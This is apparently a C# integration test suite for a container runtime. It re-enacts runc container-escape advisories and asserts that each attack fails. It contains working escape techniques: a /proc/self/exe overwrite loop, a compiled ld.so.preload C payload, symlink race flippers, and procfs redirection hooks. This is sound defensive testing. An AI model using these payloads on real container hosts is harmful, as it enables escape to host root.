using System.Runtime.InteropServices;
using System.Security.Cryptography;
using System.Text.Json.Nodes;
using Berth.Integration.Tests.Infrastructure;
using Xunit.Abstractions;

namespace Berth.Integration.Tests;

/// <summary>
/// The container-escape advisories of runc (DESIGN.md §3, anchors-features.md §10), each performed from inside a real
/// container (or from a hook standing in for a racing container) and asserted to fail: the host file, directory,
/// mount table or sysctl that the attack aims at is checked before and after.
/// </summary>
public sealed class SecurityAttackTests(ITestOutputHelper output) : ContainerTest(output)
{
    // A host-wide sysctl that no namespace scopes and that nothing on a test host depends on: the target of the
    // redirected procfs writes below (the advisories name core_pattern, which would run a helper as host root).
    const string HostSysctl = "/proc/sys/fs/lease-break-time";

    // ---- CVE-2019-5736: reopen the runtime binary through /proc/PID/exe and overwrite it ----

    /// <summary>
    /// Opens <paramref name="exe"/> read-only on fd 3 (a root process may, while the runtime's init runs) and leaves
    /// its findings in /marks; <see cref="ReopenForWrite"/> does the rest.
    /// </summary>
    static string OpenExe(string exe) =>
        "mkdir -p /marks; " +
        $"if ! ( : <{exe} ) 2>/marks/open-error; then echo cannot-open > /marks/result; exit 0; fi; " +
        $"exec 3<{exe}; readlink {exe} > /marks/exe; : > /marks/held; ";

    /// <summary>
    /// Keeps trying to reopen fd 3 for writing through /proc/self/fd/3 once no runtime process runs the file any more
    /// (the kernel refuses writes to a file being executed, not to one that was), as the advisory's payload did.
    /// </summary>
    static string ReopenForWrite(bool waitForGo) =>
        (waitForGo ? "while [ ! -e /marks/go ]; do sleep 0.05; done; " : "") +
        "i=0; while [ $i -lt 200 ]; do " +
        "  if echo PWNED 2>/dev/null >>/proc/self/fd/3; then echo escaped > /marks/result; exit 0; fi; " +
        "  sleep 0.05; i=$((i+1)); " +
        "done; (echo PWNED >>/proc/self/fd/3) 2>/marks/write-error; echo blocked > /marks/result";

    /// <summary>A private copy of the runtime binary for the attack to aim at, and a runner that uses it.</summary>
    (string Binary, RuntimeRunner Runner) RuntimeCopy()
    {
        string dir = HostDirectory("runtime-copy");
        string binary = Path.Combine(dir, Path.GetFileName(RuntimeBinary.Path));
        Bundle.CopyExecutable(RuntimeBinary.Path, binary);
        File.SetUnixFileMode(binary, (UnixFileMode)0x1ed);
        return (binary, new RuntimeRunner(StateRoot, Path.Combine(WorkDirectory, "io-copy"), Output, binary));
    }

    static string Sha256(string path) => Convert.ToHexStringLower(SHA256.HashData(File.ReadAllBytes(path)));

    static void GrantAllCapabilities(JsonObject spec)
    {
        // The strongest attacker short of host root: every capability the test itself has, CAP_SYS_PTRACE included
        // (needed to open the /proc/PID/exe of a process with more capabilities than ours).
        ulong ours = Infrastructure.Capabilities.ParseStatusValue(File.ReadAllText("/proc/self/status"), "CapEff");
        var all = Infrastructure.Capabilities.All.Where(c => (ours & (1UL << Infrastructure.Capabilities.Number(c))) != 0).ToArray();
        var caps = spec.Process()["capabilities"]!.AsObject();
        foreach (var set in new[] { "bounding", "effective", "permitted" })
            caps[set] = Specs.Strings(all);
        caps.Remove("ambient");
    }

    /// <summary>Waits for the attacker's verdict in <paramref name="marks"/> and checks the binary did not change.</summary>
    void AssertBinaryNotWritten(string marks, string binary, string hashBefore)
    {
        string result = Path.Combine(marks, "result");
        Eventually(() => File.Exists(result) && File.ReadAllText(result).EndsWith('\n'), "the attacker's verdict", TimeSpan.FromSeconds(40));
        string verdict = File.ReadAllText(result).Trim();
        string Read(string name) => File.Exists(Path.Combine(marks, name)) ? File.ReadAllText(Path.Combine(marks, name)).Trim() : "";
        Output.WriteLine($"attacker: verdict {verdict}; /proc/PID/exe was {Read("exe")}; open error: {Read("open-error")}; write error: {Read("write-error")}");
        Assert.NotEqual("cannot-open", verdict); // the attack must get as far as the advisory's attacker did
        Assert.Equal("blocked", verdict);
        Assert.Equal(hashBefore, Sha256(binary));
    }

    [SkippableFact]
    public void Cve2019_5736_AContainerSharingThePidNamespace_CannotWriteTheRuntimeThroughInitsExe()
    {
        var (binary, runner) = RuntimeCopy();
        string hash = Sha256(binary);
        Bundle.WriteConfig(Specs.Default("sleep", "1000"));
        var create = runner.Run("create", "--bundle", Bundle.Path, Id);
        Assert.True(create.Succeeded, "create failed: " + create);

        // Until `start`, PID 1 of the victim's PID namespace is the runtime's init.
        var attacker = new Bundle(Path.Combine(WorkDirectory, "attacker"));
        var spec = Specs.Shell(OpenExe("/proc/1/exe") + ReopenForWrite(waitForGo: true)).WithNamespace("pid", $"/proc/{Pid()}/ns/pid");
        spec["root"]!["readonly"] = false;
        GrantAllCapabilities(spec);
        attacker.WriteConfig(spec);
        string attackerId = TrackId(NewId());
        var run = Runtime.Run("run", "-d", "--bundle", attacker.Path, attackerId);
        Assert.True(run.Succeeded, "attacker run -d failed: " + run);
        string marks = attacker.InRootfs("/marks");
        Eventually(() => File.Exists(Path.Combine(marks, "held")) || File.Exists(Path.Combine(marks, "result")), "the attacker to open /proc/1/exe");

        // Now the victim's init execs its process, and no runtime process runs the binary any more.
        var start = runner.Run("start", Id);
        Assert.True(start.Succeeded, "start failed: " + start);
        File.WriteAllText(Path.Combine(marks, "go"), "");

        AssertBinaryNotWritten(marks, binary, hash);
    }

    [SkippableFact]
    public void Cve2019_5736_AStartContainerHook_CannotWriteTheRuntimeThroughInitsExe()
    {
        var (binary, runner) = RuntimeCopy();
        string hash = Sha256(binary);
        // The hook runs inside the container while init (PID 1) is still the runtime, and opens it then; the loop it
        // leaves behind outlives the hook and init's exec.
        var spec = Specs.Default("sleep", "1000");
        spec["root"]!["readonly"] = false;
        spec["hooks"] = new JsonObject
        {
            ["startContainer"] = new JsonArray(new JsonObject
            {
                ["path"] = "/bin/sh",
                ["args"] = Specs.Strings("sh", "-c", OpenExe("/proc/1/exe") + $"( {ReopenForWrite(waitForGo: false)} ) </dev/null >/dev/null 2>&1 &"),
            }),
        };
        Bundle.WriteConfig(spec);
        var create = runner.Run("create", "--bundle", Bundle.Path, Id);
        Assert.True(create.Succeeded, "create failed: " + create);
        var start = runner.Run("start", Id);
        Assert.True(start.Succeeded, "start failed: " + start);

        AssertBinaryNotWritten(Bundle.InRootfs("/marks"), binary, hash);
    }

    /// <summary>
    /// The exec path of CVE-2019-5736, as found from outside: a container file starting with <c>#!/proc/self/exe</c>
    /// makes the kernel run, as the interpreter, whatever /proc/self/exe is in the process that execs it. If that
    /// process is still a copy of the host's runtime binary, the runtime runs inside the container, under the
    /// container's ld.so and glibc, which honour the container's /etc/ld.so.preload: the preloaded code opens
    /// /proc/self/exe read-only, hands the fd to a child, exits, and the child writes through /proc/self/fd/N once
    /// no process runs the binary any more. The rootfs has the host's loader and libraries so that the runtime can
    /// load there; the target is a copy of the runtime in a directory of its own, compared by hash.
    /// </summary>
    [SkippableFact]
    public void Cve2019_5736_AnExecdInterpreterScript_CannotWriteTheRuntimeThroughProcSelfExe()
    {
        var (binary, runner) = RuntimeCopy();
        string hash = Sha256(binary);
        CopyHostLoaderAndLibraries(binary, Bundle.Rootfs);
        CompilePreload(Bundle.InRootfs("/lib/evil.so"));
        File.WriteAllText(Bundle.InRootfs("/etc/ld.so.preload"), "/lib/evil.so\n");
        File.WriteAllText(Bundle.InRootfs("/bin/evil"), "#!/proc/self/exe\n");
        File.SetUnixFileMode(Bundle.InRootfs("/bin/evil"), (UnixFileMode)0x1ed);
        Directory.CreateDirectory(Bundle.InRootfs("/marks"));
        File.WriteAllText(Bundle.InRootfs("/marks/writer.sh"), ReopenForWrite(waitForGo: false));

        var spec = Specs.Default("sleep", "1000");
        spec["root"]!["readonly"] = false;
        Bundle.WriteConfig(spec);
        var run = runner.Run("run", "-d", "--bundle", Bundle.Path, Id);
        Assert.True(run.Succeeded, "run -d failed: " + run);

        // The preloaded code exits 0 at once; what counts is what its child can do to the binary afterwards.
        var exec = runner.Run("exec", Id, "/bin/evil");
        Output.WriteLine("exec /bin/evil: " + exec);
        string marks = Bundle.InRootfs("/marks");
        string Read(string name) => File.Exists(Path.Combine(marks, name)) ? File.ReadAllText(Path.Combine(marks, name)).Trim() : "";
        // The attack must get as far as the advisory's: the kernel ran a binary that loaded the container's ld.so.
        Eventually(() => Read("ran") != "", () => $"the preloaded payload never ran; exec said: {exec}");
        Eventually(() => Read("result") != "", "the payload's verdict", TimeSpan.FromSeconds(40));
        Output.WriteLine($"payload: ran as {Read("ran")}; verdict {Read("result")}; write error: {Read("write-error")}");
        Assert.Equal("blocked", Read("result"));
        Assert.Equal(hash, Sha256(binary));
    }

    /// <summary>
    /// Copies the dynamic loader and the libraries <paramref name="binary"/> needs (as ldd lists them) from the host
    /// into <paramref name="rootfs"/> at the same paths, so that the runtime binary can start inside the container.
    /// </summary>
    static void CopyHostLoaderAndLibraries(string binary, string rootfs)
    {
        string ldd = Bundle.RunTool("ldd", binary);
        foreach (var line in ldd.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries))
        {
            // "libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x...)" or "/lib64/ld-linux-x86-64.so.2 (0x...)"
            string? path = line.Split(' ').FirstOrDefault(w => w.StartsWith('/'));
            if (path is null) continue;
            string target = Path.Combine(rootfs, path.TrimStart('/'));
            Bundle.CreateDirectory(Path.GetDirectoryName(target)!);
            string real = new FileInfo(path).ResolveLinkTarget(returnFinalTarget: true)?.FullName ?? path;
            Bundle.CopyExecutable(real, target); // ld.so is executed, as the interpreter
        }
        string libc = Path.Combine(rootfs, "lib/x86_64-linux-gnu/libc.so.6");
        Assert.True(File.Exists(libc), $"ldd of {binary} named no libc.so.6 under /lib/x86_64-linux-gnu:\n{ldd}");
    }

    /// <summary>
    /// The advisory's payload as an ld.so.preload library: in any dynamically linked process of the container it opens
    /// /proc/self/exe read-only on fd 3, starts /marks/writer.sh (<see cref="ReopenForWrite"/>: it keeps reopening the
    /// fd for writing through /proc/self/fd/3, which the kernel refuses while the file is being executed) in a child,
    /// and exits at once so that the binary stops being busy. It leaves what it saw in /marks.
    /// </summary>
    static void CompilePreload(string output)
    {
        const string source = """
            #define _GNU_SOURCE
            #include <errno.h>
            #include <fcntl.h>
            #include <stdio.h>
            #include <string.h>
            #include <unistd.h>
            static void mark(const char *name, const char *text) {
                char path[64];
                snprintf(path, sizeof path, "/marks/%s", name);
                int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
                if (fd < 0) return;
                if (write(fd, text, strlen(text)) < 0 || write(fd, "\n", 1) < 0) { }
                close(fd);
            }
            __attribute__((constructor)) static void payload(void) {
                char exe[4096];
                ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
                exe[n > 0 ? n : 0] = 0;
                mark("ran", exe);
                int fd = open("/proc/self/exe", O_RDONLY);
                if (fd < 0) { mark("result", "cannot-open"); _exit(0); }
                // The child execs the writer at once: a fork of this process would keep the binary mapped (and busy).
                if (dup2(fd, 3) < 0) { mark("result", "cannot-dup"); _exit(0); }
                if (fork() == 0) {
                    setsid();
                    execl("/bin/sh", "sh", "/marks/writer.sh", (char *)0);
                    mark("result", "cannot-exec-writer");
                    _exit(0);
                }
                _exit(0);
            }
            """;
        string dir = Path.GetDirectoryName(output)!;
        Bundle.CreateDirectory(dir);
        string c = Path.Combine(Path.GetTempPath(), $"evil-{Guid.NewGuid():N}.c");
        File.WriteAllText(c, source);
        try
        {
            Bundle.RunTool("gcc", "-shared", "-fPIC", "-O1", "-o", output, c);
        }
        finally
        {
            File.Delete(c);
        }
    }

    // ---- CVE-2024-21626: a leaked fd and a cwd of /proc/self/fd/N ----

    [SkippableFact]
    public void Cve2024_21626_ACwdOfProcSelfFd_NeverStartsTheProcessOnTheHost()
    {
        // A host directory the runtime inherits open, as runc inherited /sys/fs/cgroup.
        string hostDir = HostDirectory("leaked");
        File.WriteAllText(Path.Combine(hostDir, "host-secret"), "x");
        var invocation = new RuntimeInvocation { InheritedFiles = [hostDir, hostDir] };
        var escapes = new List<string>();
        for (int n = 3; n <= 20; n++)
        {
            var spec = Specs.Shell("echo ran; pwd; ls -a");
            spec.Process()["cwd"] = $"/proc/self/fd/{n}";
            spec["root"]!["readonly"] = false;
            Bundle.WriteConfig(spec);
            string id = TrackId(NewId());
            var result = Runtime.Run(["run", "--bundle", Bundle.Path, id], invocation);
            if (!result.Stdout.StartsWith("ran\n", StringComparison.Ordinal)) continue; // refused: fine
            string cwd = result.Stdout.Split('\n')[1];
            if (!cwd.StartsWith('/') || cwd.Contains("unreachable", StringComparison.Ordinal) || result.Stdout.Contains("host-secret", StringComparison.Ordinal))
                escapes.Add($"fd {n}: {result.Stdout.Replace('\n', ' ')}");
        }
        Assert.Empty(escapes);
    }

    [SkippableFact]
    public void Cve2024_21626_FdsTheRuntimeInherited_DoNotReachTheContainer()
    {
        string hostDir = HostDirectory("leaked");
        string hostFile = Path.Combine(hostDir, "host-secret");
        File.WriteAllText(hostFile, "x");
        var invocation = new RuntimeInvocation { InheritedFiles = [hostDir, hostFile] };
        Bundle.WriteConfig(Specs.Shell("for f in /proc/self/fd/*; do echo \"${f##*/} $(readlink $f)\"; done"));

        var result = Runtime.Run(["run", "--bundle", Bundle.Path, Id], invocation);

        Assert.True(result.Succeeded, "run failed: " + result);
        var fds = result.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Output.WriteLine(string.Join("\n", fds));
        Assert.DoesNotContain(fds, l => l.Contains(hostDir, StringComparison.Ordinal));
        // 0-2, and the one the shell's glob holds on /proc/self/fd while listing it.
        Assert.True(fds.Select(l => int.Parse(l.Split(' ')[0])).All(fd => fd <= 3), "unexpected fds: " + string.Join("; ", fds));
    }

    // ---- CVE-2021-30465 and CVE-2024-45310: mount targets and mkdir-all paths swapped for symlinks ----

    /// <summary>What an escape leaves on the host: something new in the victim dir, or a mount naming it.</summary>
    static void AssertHostUntouched(string victim)
    {
        Assert.Equal(["host-secret"], Directory.EnumerateFileSystemEntries(victim).Select(p => Path.GetFileName(p)).ToArray());
        Assert.DoesNotContain(File.ReadAllLines("/proc/self/mountinfo"), l => l.Contains(victim, StringComparison.Ordinal));
    }

    [SkippableFact]
    public void Cve2021_30465_SymlinksPreparedInTheRootfs_NeverRedirectMountsOrMkdirAll()
    {
        string victim = HostDirectory("victim");
        File.WriteAllText(Path.Combine(victim, "host-secret"), "x");
        string source = HostDirectory("bind-source");
        File.CreateSymbolicLink(Bundle.InRootfs("/abs"), victim);
        File.CreateSymbolicLink(Bundle.InRootfs("/rel"), string.Concat(Enumerable.Repeat("../", 12)) + victim.TrimStart('/'));
        var spec = Specs.Shell("ls -aR /abs /rel; echo done");
        spec["root"]!["readonly"] = false;
        spec.Mounts().Add(Specs.Mount("/abs/mnt", "tmpfs", "tmpfs", "size=64k"));
        spec.Mounts().Add(Specs.Mount("/abs/deep/er/mnt", "tmpfs", "tmpfs", "size=64k"));
        spec.Mounts().Add(Specs.Mount("/rel/bind/target", "bind", source, "bind"));

        var result = RunContainer(spec); // refusing is fine; escaping is not

        Assert.DoesNotContain("host-secret", result.Stdout + result.Stderr);
        AssertHostUntouched(victim);
    }

    [SkippableFact]
    public void Cve2021_30465_APathFlippedBetweenDirAndSymlinkDuringSetup_NeverEscapes()
    {
        string victim = HostDirectory("victim");
        File.WriteAllText(Path.Combine(victim, "host-secret"), "x");
        string source = HostDirectory("bind-source");
        string vol = Bundle.InRootfs("/vol");
        Directory.CreateDirectory(vol);
        var spec = Specs.Shell("ls -aR /vol 2>/dev/null; echo done");
        spec["root"]!["readonly"] = false;
        spec.Mounts().Add(Specs.Mount("/vol/mnt", "tmpfs", "tmpfs", "size=64k"));
        spec.Mounts().Add(Specs.Mount("/vol/a/b/c", "tmpfs", "tmpfs", "size=64k"));
        spec.Mounts().Add(Specs.Mount("/vol/bind/target", "bind", source, "bind"));
        Bundle.WriteConfig(spec);

        using var stop = new CancellationTokenSource();
        long flips = 0;
        var flipper = Task.Run(() =>
        {
            // The racing container of the advisory: /vol is a directory when checked and a symlink out when used.
            while (!stop.IsCancellationRequested)
            {
                try
                {
                    if (new FileInfo(vol).LinkTarget is not null) File.Delete(vol);
                    else if (Directory.Exists(vol)) Directory.Delete(vol, recursive: true);
                    File.CreateSymbolicLink(vol, victim);
                    Thread.SpinWait(200);
                    File.Delete(vol);
                    Directory.CreateDirectory(vol);
                    flips++;
                }
                catch (Exception e) when (e is IOException or UnauthorizedAccessException)
                {
                    // The runtime created or mounted something there meanwhile: flip again.
                }
            }
        });
        var outcomes = new List<string>();
        try
        {
            for (int i = 0; i < 15; i++)
            {
                string id = TrackId(NewId());
                var result = Runtime.Run("run", "--bundle", Bundle.Path, id);
                outcomes.Add(result.Succeeded ? "ran" : "refused");
                Assert.DoesNotContain("host-secret", result.Stdout);
            }
        }
        finally
        {
            stop.Cancel();
            flipper.Wait();
        }
        Output.WriteLine($"{flips} flips; runs: {string.Join(", ", outcomes)}");
        Assert.True(flips > 15, $"the flipper made only {flips} flips");
        AssertHostUntouched(victim);
    }

    // ---- CVE-2025-31133: masking from a /dev/null swapped for a symlink to a procfs file ----

    /// <summary>A createContainer hook (host side, in the container's mount namespace, after /dev is made and before masking).</summary>
    JsonObject HostHook(string name, string script)
    {
        string path = Path.Combine(HostDirectory("hooks"), name);
        File.WriteAllText(path, "#!/bin/sh\nset -e\n" + script + "\n");
        File.SetUnixFileMode(path, (UnixFileMode)0x1ed);
        return new JsonObject { ["path"] = path };
    }

    /// <summary>Runs <paramref name="attack"/>, then restores the host sysctl if it changed and asserts it did not.</summary>
    static void AssertHostSysctlUnchanged(Action attack)
    {
        string before = File.ReadAllText(HostSysctl);
        string after;
        try
        {
            attack();
        }
        finally
        {
            after = File.ReadAllText(HostSysctl);
            if (after != before) File.WriteAllText(HostSysctl, before);
        }
        Assert.Equal(before, after);
    }

    [SkippableFact]
    [Trait("runc-compatible", "false")] // runc 1.1.5 predates the fix (1.2.8/1.3.3/1.4.0-rc.3)
    public void Cve2025_31133_DevNullSwappedForAProcfsSymlink_IsNotUsedToMask()
    {
        var spec = Specs.Shell("echo 4242 > /proc/timer_list && echo wrote; cat /proc/timer_list | head -c 40; echo");
        spec.Linux()["maskedPaths"] = Specs.Strings("/proc/timer_list");
        // Without a read-only /proc/sys, whose flag a bind from it would inherit: the masking alone must not expose it.
        spec.Linux().Remove("readonlyPaths");
        spec["hooks"] = new JsonObject
        {
            ["createContainer"] = new JsonArray(HostHook("swap-dev-null",
                $"rm -f {Bundle.Rootfs}/dev/null\nln -s {HostSysctl} {Bundle.Rootfs}/dev/null")),
        };
        RuntimeResult? result = null;

        AssertHostSysctlUnchanged(() => result = RunContainer(spec));

        Assert.DoesNotContain("wrote", result!.Stdout);
        if (!result.Succeeded) Assert.Contains("/dev/null", result.Stderr);
    }

    // ---- CVE-2025-52881 and CVE-2019-16884: procfs writes redirected by a fake or shared /proc ----

    [SkippableFact]
    [Trait("runc-compatible", "false")] // runc 1.1.5 predates the fix (1.2.8/1.3.3/1.4.0-rc.3)
    public void Cve2025_52881_ASysctlFileOvermountedWithAnotherProcfsFile_IsNotWrittenThrough()
    {
        var spec = Specs.Shell("echo ran");
        spec.Linux()["sysctl"] = new JsonObject { ["net.ipv4.ip_default_ttl"] = "77" };
        spec["hooks"] = new JsonObject
        {
            // A procfs file bound over the sysctl's file: still procfs, so an fstatfs check passes.
            ["createContainer"] = new JsonArray(HostHook("redirect-sysctl",
                $"mount --bind {Bundle.Rootfs}/proc/sys/fs/lease-break-time {Bundle.Rootfs}/proc/sys/net/ipv4/ip_default_ttl")),
        };
        RuntimeResult? result = null;

        AssertHostSysctlUnchanged(() => result = RunContainer(spec));

        Assert.True(result!.Succeeded, "the sysctl belongs to the container's own network namespace: " + result);
    }

    [SkippableFact]
    public void Cve2019_16884_AFakeProcTree_IsRefusedAndNotWritten()
    {
        string fake = HostDirectory("fake-proc");
        string fakeTtl = Path.Combine(fake, "sys", "net", "ipv4", "ip_default_ttl");
        Directory.CreateDirectory(Path.GetDirectoryName(fakeTtl)!);
        File.WriteAllText(fakeTtl, "64\n");
        foreach (var mount in new[] { Specs.Mount("/proc", "bind", fake, "rbind"), Specs.Mount("/proc", "tmpfs", "tmpfs", "size=64k") })
        {
            var spec = Specs.Shell("echo ran");
            spec.Mounts()[0] = mount;
            spec.Linux()["sysctl"] = new JsonObject { ["net.ipv4.ip_default_ttl"] = "77" };
            string id = TrackId(NewId());

            var result = RunContainer(spec, id);

            Assert.False(result.Succeeded, $"a {mount["type"]} at /proc must be refused: {result}");
            Assert.Contains("/proc", result.Stderr);
            Assert.Equal("64\n", File.ReadAllText(fakeTtl));
        }
    }

    [SkippableFact]
    public void Cve2025_52881_TheHostsProcBoundIntoTheContainer_TakesTheSysctlInTheContainersNamespace()
    {
        string hostTtl = File.ReadAllText("/proc/sys/net/ipv4/ip_default_ttl");
        var spec = Specs.Shell("cat /proc/sys/net/ipv4/ip_default_ttl");
        spec.Mounts()[0] = Specs.Mount("/proc", "bind", "/proc", "rbind");
        spec.Linux()["sysctl"] = new JsonObject { ["net.ipv4.ip_default_ttl"] = "77" };
        // The host's /proc carries mounts of its own (binfmt_misc...): masking and read-only paths are beside the point.
        spec.Linux().Remove("maskedPaths");
        spec.Linux().Remove("readonlyPaths");

        var result = RunContainer(spec);

        Assert.Equal(hostTtl, File.ReadAllText("/proc/sys/net/ipv4/ip_default_ttl"));
        Assert.True(result.Succeeded, "run failed: " + result);
        Assert.Equal("77", result.Stdout.Trim());
    }

    [SkippableFact]
    public void SysctlsNoNamespaceScopes_AreRefused_AndTheHostKeepsItsValue()
    {
        foreach (var (key, namespaces) in new[]
        {
            ("fs.lease-break-time", Specs.DefaultNamespaces),
            ("net.ipv4.ip_default_ttl", Specs.DefaultNamespaces.Where(n => n != "network").ToArray()),
            ("kernel.msgmax", Specs.DefaultNamespaces.Where(n => n != "ipc").ToArray()),
        })
        {
            var spec = Specs.Shell("echo ran").WithNamespaces(namespaces);
            spec.Linux()["sysctl"] = new JsonObject { [key] = "77" };
            string file = "/proc/sys/" + key.Replace('.', '/');
            string id = TrackId(NewId());
            RuntimeResult result;

            string before = File.ReadAllText(file);
            try
            {
                result = RunContainer(spec, id);
            }
            finally
            {
                if (File.ReadAllText(file) != before) File.WriteAllText(file, before);
            }

            Assert.False(result.Succeeded, $"sysctl {key} with namespaces {string.Join(",", namespaces)} must be refused");
            Assert.Contains(key, result.Stderr);
        }
    }

    // ---- AppArmor and SELinux on a host without them: refused, never pretended ----

    static readonly (string Field, string Path, Func<JsonObject, JsonObject> Target, string Value)[] LsmFields =
    [
        ("apparmorProfile", "$.process.apparmorProfile", spec => spec.Process(), "docker-default"),
        ("selinuxLabel", "$.process.selinuxLabel", spec => spec.Process(), "system_u:system_r:container_t:s0"),
        ("mountLabel", "$.linux.mountLabel", spec => spec.Linux(), "system_u:object_r:container_file_t:s0"),
    ];

    static void SkipUnlessNoLsm()
    {
        bool appArmor = File.Exists("/sys/module/apparmor/parameters/enabled") && File.ReadAllText("/sys/module/apparmor/parameters/enabled").StartsWith('Y');
        bool seLinux = File.Exists("/sys/fs/selinux/enforce");
        Skip.If(appArmor || seLinux, $"this host has an LSM enabled (AppArmor {appArmor}, SELinux {seLinux}); the test is for hosts without one");
    }

    [SkippableFact]
    public void LsmLabels_OnAHostWithoutTheLsm_FailTheContainerBeforeItRuns()
    {
        SkipUnlessNoLsm();
        foreach (var (field, _, target, value) in LsmFields)
        {
            File.Delete(Bundle.InRootfs("/ran"));
            var spec = Specs.Default("touch", "/ran");
            spec["root"]!["readonly"] = false;
            target(spec)[field] = value;

            var result = RunContainer(spec, TrackId(NewId()));

            Assert.False(result.Succeeded, $"{field} on a host without its LSM must fail, as with runc: {result}");
            Assert.False(File.Exists(Bundle.InRootfs("/ran")), $"{field}: the process ran without its label");
        }
    }

    [SkippableFact]
    [Trait("runc-compatible", "false")] // runc's messages do not name the field
    public void LsmLabels_OnAHostWithoutTheLsm_NameTheFieldAndTheMissingLsm()
    {
        SkipUnlessNoLsm();
        foreach (var (field, path, target, value) in LsmFields)
        {
            var spec = Specs.Default("true");
            target(spec)[field] = value;

            var result = RunContainer(spec, TrackId(NewId()));

            Assert.False(result.Succeeded);
            Assert.Contains(path, result.Stderr);
            Assert.Contains("is not enabled on this host", result.Stderr);
        }
    }

    // ---- Files the runtime writes or reads on the container's behalf ----

    /// <summary>
    /// --pid-file in a directory the container can write (a bind mount): the container plants a symlink at the name the
    /// runtime writes first (runc's ".NAME.tmp"), aiming at a host file. Neither `exec -d --pid-file` nor `create
    /// --pid-file` may write through it; runc creates the file O_EXCL and fails instead.
    /// </summary>
    [SkippableFact]
    public void PidFile_ASymlinkPlantedInItsDirectory_IsNeverWrittenThrough()
    {
        string victim = Path.Combine(HostDirectory("victim"), "host-file");
        File.WriteAllText(victim, "host-secret\n");
        string shared = HostDirectory("pid-dir");
        var spec = Specs.Default("sleep", "1000");
        spec.Mounts().Add(Specs.Mount("/shared", "bind", shared, "rbind", "rw"));
        Bundle.WriteConfig(spec);
        Assert.True(Runtime.Run("run", "-d", "--bundle", Bundle.Path, Id).Succeeded, "run -d failed");
        // From inside the container, with every name a runtime might pick for its temporary file.
        var plant = Runtime.Run("exec", Id, "sh", "-c",
            $"for n in exec init; do ln -s {victim} /shared/.$n.pid.tmp; ln -s {victim} /shared/$n.pid.tmp; done; ls -la /shared");
        Assert.True(plant.Succeeded, "planting the symlinks failed: " + plant);

        var exec = Runtime.Run("exec", "-d", "--pid-file", Path.Combine(shared, "exec.pid"), Id, "sleep", "1000");
        string second = TrackId(NewId());
        var create = Runtime.Run("create", "--bundle", Bundle.Path, "--pid-file", Path.Combine(shared, "init.pid"), second);

        Assert.Equal("host-secret\n", File.ReadAllText(victim));
        foreach (var (result, name) in new[] { (exec, "exec.pid"), (create, "init.pid") })
        {
            string pidFile = Path.Combine(shared, name);
            if (!result.Succeeded) continue; // refusing, as runc does, is fine
            Assert.False(new FileInfo(pidFile).LinkTarget is not null, $"{name} is a symlink");
            Assert.Matches(@"^\d+$", File.ReadAllText(pidFile).Trim());
        }
    }

    [DllImport("libc", SetLastError = true)]
    static extern int klogctl(int type, IntPtr buffer, int length);

    const int SyslogActionSizeUnread = 9;

    /// <summary>
    /// exec fills in HOME from the container's /etc/passwd when the process env lacks it. The container controls that
    /// file: a symlink to /proc/kmsg (which the runtime, unlike the container, may read: CAP_SYSLOG), a symlink loop, a
    /// symlink to a socket, or a FIFO must neither be read through the runtime's privileges nor block or fail the exec:
    /// HOME is then "/". runc 1.1.5 hangs on /proc/kmsg (its init reads it as root), so the test is berth-runtime's.
    /// </summary>
    [SkippableFact]
    [Trait("runc-compatible", "false")]
    public void Exec_APasswdFileTheContainerTurnedHostile_IsNotRead_AndHomeIsSlash()
    {
        var spec = Specs.Default("sleep", "1000");
        spec["root"]!["readonly"] = false;
        Bundle.WriteConfig(spec);
        Assert.True(Runtime.Run("run", "-d", "--bundle", Bundle.Path, Id).Succeeded, "run -d failed");
        // A socket for the last case: busybox syslogd listens on /dev/log.
        Assert.True(Runtime.Run("exec", "-d", "--env", "HOME=/", Id, "syslogd", "-n", "-O", "/dev/null").Succeeded, "syslogd failed");
        Eventually(() => Runtime.Run("exec", "--env", "HOME=/", Id, "test", "-S", "/dev/log").Succeeded, "syslogd's socket /dev/log");

        foreach (var (what, plant) in new[]
        {
            ("a symlink to /proc/kmsg", "ln -s /proc/kmsg /etc/passwd"),
            ("a symlink loop", "ln -s /etc/passwd /etc/passwd"),
            ("a symlink to a socket", "ln -s /dev/log /etc/passwd"),
            ("a FIFO", "mkfifo /etc/passwd"),
        })
        {
            // The attacker's own execs carry HOME, so they never read the file.
            var planted = Runtime.Run("exec", "--env", "HOME=/", Id, "sh", "-c", "rm -f /etc/passwd; " + plant);
            Assert.True(planted.Succeeded, $"planting {what} failed: {planted}");
            // Something unread in the kernel log that a read of /proc/kmsg would consume.
            File.WriteAllText("/dev/kmsg", $"<6>berth-test {Id}: exec with {what} as /etc/passwd\n");
            int unread = klogctl(SyslogActionSizeUnread, IntPtr.Zero, 0);

            var exec = Runtime.Run("exec", Id, "sh", "-c", "echo HOME=$HOME");

            Assert.True(exec.Succeeded, $"exec with {what} as /etc/passwd failed: {exec}");
            Assert.Equal("HOME=/", exec.Stdout.Trim());
            Assert.True(klogctl(SyslogActionSizeUnread, IntPtr.Zero, 0) >= unread, $"with {what}, the host's kernel log was consumed");
        }
    }
}
